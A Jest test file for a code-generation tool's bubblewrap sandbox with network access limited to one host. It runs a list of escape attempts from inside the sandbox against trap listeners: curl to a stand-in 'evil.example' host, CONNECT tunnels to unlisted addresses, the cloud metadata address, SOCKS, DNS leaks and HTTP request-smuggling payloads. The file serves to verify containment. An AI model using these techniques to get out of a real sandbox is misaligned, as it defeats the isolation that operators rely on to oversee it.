/** Ways out of a real sandbox whose network is opened to one host: each is tried, against listeners that would notice. */
import { createSocket, type Socket as Datagrams } from "node:dgram";
import { once } from "node:events";
import { createServer as createWebServer, type Server as WebServer } from "node:http";
import { mkdtemp, rm } from "node:fs/promises";
import { createServer, type AddressInfo, type Server } from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
import { networkOf, type SandboxNetwork } from "../../../pipelines/network.ts";
import { toHostPatterns } from "../../../src/domain/host-pattern.ts";
import { createBubblewrap } from "../../../src/sandbox/bubblewrap.ts";
import type { Sandbox } from "../../../src/sandbox/port.ts";
import { smallLimits } from "../sandbox/bots.ts";

/** What came in from whoever should not get through. */
const heard: string[] = [];
const good: string[] = [];
const servers: (Server | WebServer | Datagrams)[] = [];
let folder: string;
let sandbox: Sandbox;
let network: SandboxNetwork;
let env: Readonly<Record<string, string>>;
let port = 0;
let secretPort = 0;
let udpPort = 0;
let port6: number | null = null;
const abstractName = `codegen-egress-${process.pid}`;
const elsewhere = Object.values(networkInterfaces())
  .flatMap((of) => of ?? [])
  .find(({ family, internal }) => family === "IPv4" && !internal)?.address;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "codegen-egress-"));
  const listen = async (server: Server | WebServer, at: object): Promise<number> => {
    server.listen(at);
    await once(server, "listening");
    servers.push(server);
    const address = server.address();
    return address !== null && typeof address === "object" ? address.port : 0;
  };
  const hear = (what: string) =>
    createServer((socket) => {
      heard.push(what);
      socket.on("error", () => socket.destroy());
      socket.end("HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nSTOLEN");
    });
  secretPort = await listen(hear("TCP"), { host: "0.0.0.0", port: 0 });
  port6 = await listen(hear("TCP over IPv6"), { host: "::1", port: 0 }).catch(() => null);
  await listen(hear("an abstract socket"), { path: `\0${abstractName}` });
  await listen(hear("a socket in the file system"), { path: join(folder, "socket") });
  const web = createWebServer((request, response) => {
    good.push(`${request.method} ${request.url}`);
    response.end("good");
  });
  port = await listen(web, { host: "127.0.0.1", port: 0 });
  const datagrams = createSocket("udp4", () => heard.push("UDP")).bind(0, "127.0.0.1");
  await once(datagrams, "listening");
  servers.push(datagrams);
  udpPort = datagrams.address().port;

  sandbox = await createBubblewrap().create({
    workspace: await mkdtemp(join(folder, "workspace-")),
    limits: { ...smallLimits, memory: 512 * 1024 ** 2 },
  });
  const privateHosts = toHostPatterns([`good.example:${port}`]);
  const lookup = (host: string) =>
    host.endsWith(".example") ? Promise.resolve(["127.0.0.1"]) : Promise.reject(new Error("no such name"));
  const hosts = [`good.example:${port}`, `trap.example:${secretPort}`];
  network = networkOf({ network: { privateHosts, lookup } }, hosts, () => Promise.resolve(sandbox));
  env = await network.open();
}, 30_000);

afterAll(async () => {
  await network.close();
  await sandbox.destroy();
  for (const server of servers) server.close();
  await rm(folder, { recursive: true, force: true });
}, 30_000);

const run = async (command: string, more: Readonly<Record<string, string>> = {}) => {
  const result = await sandbox.exec({ run: command, timeoutMs: 20_000, env: { ...env, ...more } });
  return `${result.output.trim()} ${result.end === "exited" ? result.code : result.end}`;
};

const direct = (host: string, at: number) =>
  `node -e 'const s = require("net").connect({ host: "${host}", port: ${at}, timeout: 2000 }); s.on("data", (d) => { console.log(String(d)); process.exit() }); s.on("timeout", () => process.exit(3)); s.on("error", (e) => { console.log(e.code); process.exit(2) })'`;
/** Says bytes to the proxy and prints what comes back. */
const toProxy = (bytes: string) =>
  `node -e 'const u = new URL(process.env.http_proxy); const s = require("net").connect(u.port, u.hostname, () => s.write(Buffer.from("${Buffer.from(bytes, "latin1").toString("base64")}", "base64"))); s.setTimeout(3000, () => s.destroy()); s.on("data", (d) => process.stdout.write(d)); s.on("error", () => {}); s.on("close", () => process.exit())'`;
const connectTo = (target: string) => toProxy(`CONNECT ${target} HTTP/1.1\r\nHost: x\r\n\r\nGET / HTTP/1.1\r\n\r\n`);
const getFrom = (url: string, host = "good.example") => toProxy(`GET ${url} HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
const socks = "\u0005\u0001\u0000\u0005\u0001\u0000\u0001\u007F\u0000\u0000\u0001";
const smuggled = "GET / HTTP/1.1\r\nHost: x\r\n\r\n";

const attempts = (): readonly (readonly [string, string])[] => [
  ["TCP to the host's loopback", direct("127.0.0.1", secretPort)],
  ["TCP over IPv6", direct("::1", port6 ?? secretPort)],
  ["TCP to an address of the host", direct(elsewhere ?? "198.51.100.7", secretPort)],
  [
    "UDP",
    `node -e 'const s = require("dgram").createSocket("udp4"); s.send("x", ${udpPort}, "127.0.0.1", () => setTimeout(() => s.close(), 100))'`,
  ],
  [
    "a name server of its own",
    `node -e 'const { Resolver } = require("dns"); const r = new Resolver({ timeout: 200, tries: 1 }); r.setServers(["127.0.0.1:${udpPort}"]); r.resolve4("leak.example", (e) => console.log(e?.code))'`,
  ],
  ["the name server of the host", "getent hosts leak.example"],
  ["an abstract socket", direct("", 0).replace('{ host: "", port: 0, timeout: 2000 }', `"\\0${abstractName}"`)],
  ["a socket in the file system", `curl -sS -m 2 --noproxy '*' --unix-socket ${folder}/socket http://x/`],
  ["a program that minds no proxy", `curl -sS -m 2 --noproxy '*' http://evil.example:${secretPort}/`],
  ["the proxy, to a host that is not listed", `curl -sS -m 5 http://evil.example:${secretPort}/`],
  ["a tunnel to a host that is not listed", connectTo(`evil.example:${secretPort}`)],
  ["a tunnel to an address", connectTo(`127.0.0.1:${secretPort}`)],
  ["a tunnel to an address over IPv6", connectTo(`[::1]:${port6 ?? secretPort}`)],
  ["a tunnel to an address in another spelling", connectTo(`2130706433:${secretPort}`)],
  ["a tunnel to another port of the listed host", connectTo(`good.example:${secretPort}`)],
  ["a listed name that leads to the host", `curl -sS -m 5 -p http://trap.example:${secretPort}/`],
  [
    "the metadata address, through the proxy and past it",
    `${connectTo("169.254.169.254:80")}; ${direct("169.254.169.254", 80)}`,
  ],
  ["SOCKS", toProxy(socks)],
  ["the listed host's name beside another address", getFrom(`http://evil.example:${secretPort}/`)],
  [
    "a second request behind a good one",
    toProxy(
      `GET http://good.example:${port}/first HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\nGET http://127.0.0.1:${secretPort}/ HTTP/1.1\r\nHost: a\r\n\r\n`,
    ),
  ],
  [
    "what is hidden in a body",
    toProxy(
      `POST http://good.example:${port}/body HTTP/1.1\r\nHost: a\r\nContent-Length: ${smuggled.length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
    ),
  ],
];

describe("a sandbox whose network is opened to one host", () => {
  test("finds no other way out: nothing reaches a listener", async () => {
    for (const [name, command] of attempts()) {
      const said = await run(command);
      expect([name, said, heard]).toEqual([name, expect.not.stringContaining("STOLEN"), []]);
    }
    // The listeners do hear those who may reach them.
    const near = await fetch(`http://127.0.0.1:${secretPort}/`);
    expect([await near.text(), heard]).toEqual(["STOLEN", ["TCP"]]);
    heard.length = 0;
    const refused = network.takeRefused().map(({ host, port: at, reason }) => `${host}:${at} ${reason}`);
    expect(refused).toEqual(
      expect.arrayContaining([
        `evil.example:${secretPort} unlisted`,
        `127.0.0.1:${secretPort} unlisted`,
        `good.example:${secretPort} unlisted`,
        `trap.example:${secretPort} not-public`,
        "169.254.169.254:80 unlisted",
      ]),
    );
  }, 120_000);

  test.each([
    ["curl", (url: string) => `curl -sS ${url}`],
    ["curl, by a tunnel", (url: string) => `curl -sS -p ${url}`],
    [
      "the fetch of the bot's Node",
      (url: string) => `/opt/node/bin/node -e 'fetch("${url}").then((r) => r.text()).then(console.log)'`,
    ],
    ["Python", (url: string) => `python3 -c 'import urllib.request as u; print(u.urlopen("${url}").read().decode())'`],
  ])("reaches that host by %s", async (_, command) => {
    good.length = 0;
    expect(await run(command(`http://good.example:${port}/a`))).toBe("good 0");
    expect(good).toEqual(["GET /a"]);
  });

  test.each([
    ["git", (url: string) => `git ls-remote ${url}/r.git`, "GET /r.git/info/refs?service=git-upload-pack"],
    ["npm", (url: string) => `npm view left-pad --registry ${url}/npm --fetch-retries 0`, "GET /npm/left-pad"],
  ])("is asked for by %s", async (_, command, asked) => {
    good.length = 0;
    await run(command(`http://good.example:${port}`));
    expect(good).toContain(asked);
  });

  test("gets large answers whole", async () => {
    const big = createWebServer((_, response) => response.end(Buffer.alloc(24 * 1024 ** 2, "x")));
    big.listen(0, "127.0.0.1");
    await once(big, "listening");
    const { port: bigPort } = big.address() as AddressInfo;
    const other = networkOf(
      {
        network: {
          privateHosts: toHostPatterns([`big.example:${bigPort}`]),
          lookup: () => Promise.resolve(["127.0.0.1"]),
        },
      },
      [`big.example:${bigPort}`],
      () => Promise.resolve(sandbox),
    );
    try {
      const around = await other.open();
      for (const how of ["", "-p "])
        expect(await run(`curl -sS ${how}http://big.example:${bigPort}/ | wc -c`, around)).toBe(`${24 * 1024 ** 2} 0`);
    } finally {
      await other.close();
      big.close();
    }
  });

  test("reaches nothing any more when it is closed again, and the host once more when it is opened", async () => {
    await network.close();
    expect(await run(`curl -sS -m 5 http://good.example:${port}/`)).toMatch(/[1-9]\d*$/);
    env = await network.open();
    expect(await run(`curl -sS http://good.example:${port}/`)).toBe("good 0");
  });
});

test("a sandbox to which no host is opened is served nothing", async () => {
  const closed = networkOf({ network: {} }, [], () => Promise.reject(new Error("no sandbox is needed")));
  expect(await closed.open()).toEqual({});
  expect(closed.takeRefused()).toEqual([]);
  await closed.close();
});
